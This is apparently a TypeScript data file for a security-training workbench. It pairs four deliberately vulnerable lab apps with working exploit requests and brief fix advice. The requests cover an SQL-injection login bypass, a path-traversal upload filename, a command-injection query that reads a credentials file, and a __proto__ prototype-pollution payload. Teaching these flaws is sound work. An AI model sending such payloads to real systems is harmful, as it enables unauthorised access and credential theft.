/** One request of the workbench. `take` reads something out of its answer for the requests that follow, as {0}, {1} ... */
export type Attack = {
  readonly method: string;
  readonly path: string;
  readonly headers?: string;
  readonly body?: string;
  readonly crlf?: boolean;
  readonly take?: RegExp;
};

export type LabJourney = {
  readonly slug: string;
  readonly language: string;
  /** A flaw that is reported, and attacked. */
  readonly finding: string;
  readonly attacks: readonly Attack[];
  readonly explanation: string;
};

const json = 'Content-Type: application/json';

/** One lab of each language, with an attack that works on it and some words about it. */
export const labJourneys: readonly LabJourney[] = [
  {
    slug: 'booking-login',
    language: 'Python',
    finding: 'sign-in-statements',
    attacks: [
      {
        method: 'POST',
        path: '/login',
        headers: json,
        body: `{"email":"' OR role = 'manager' --","password":"x"}`,
      },
    ],
    explanation:
      'The address is pasted into the text of the SQL statement, so a quote in it changes the query and somebody signs in without the password. Bind it as a parameter instead.',
  },
  {
    slug: 'document-upload',
    language: 'Java',
    finding: 'name-becomes-path',
    attacks: [
      {
        method: 'POST',
        path: '/api/claims',
        headers: json,
        body: '{"subject":"roof"}',
        take: /"id":\s*"?([\w-]+)/,
      },
      {
        method: 'POST',
        path: '/api/claims/{0}/documents',
        headers: 'X-Remote-User: m.okafor\nContent-Type: multipart/form-data; boundary=part',
        body: '--part\nContent-Disposition: form-data; name="file"; filename="../../../templates/acknowledgement.txt"\nContent-Type: application/pdf\n\n%PDF-1.4 forged\n--part--\n',
        crlf: true,
      },
    ],
    explanation:
      'The name of the uploaded file becomes part of the path, so dot dot slash leads out of the folder of the claim and overwrites the letter. Choose the name on the server.',
  },
  {
    slug: 'network-diagnostics',
    language: 'Go',
    finding: 'shell-lookup',
    attacks: [{ method: 'GET', path: '/api/lookup?host=localhost%3B%20cat%20/srv/data/relay-credentials' }],
    explanation:
      'The host goes into a command line that a shell reads, so a semicolon starts a second command. Do not use a shell; call the resolver of the language.',
  },
  {
    slug: 'workspace-settings',
    language: 'JavaScript',
    finding: 'merge-follows-inherited',
    attacks: [
      {
        method: 'POST',
        path: '/members',
        headers: json,
        body: '{"invite":"welcome-aboard","name":"mallory"}',
        take: /"key":\s*"([^"]+)"/,
      },
      { method: 'POST', path: '/session', headers: json, body: '{"name":"mallory","key":"{0}"}' },
      { method: 'PATCH', path: '/settings', headers: json, body: '{"__proto__":{"members":true}}' },
      { method: 'GET', path: '/reports/members' },
    ],
    explanation:
      'With __proto__ as a key the merge walks into Object.prototype and writes my values there, so every object has them: prototype pollution. Refuse inherited names at every level.',
  },
];
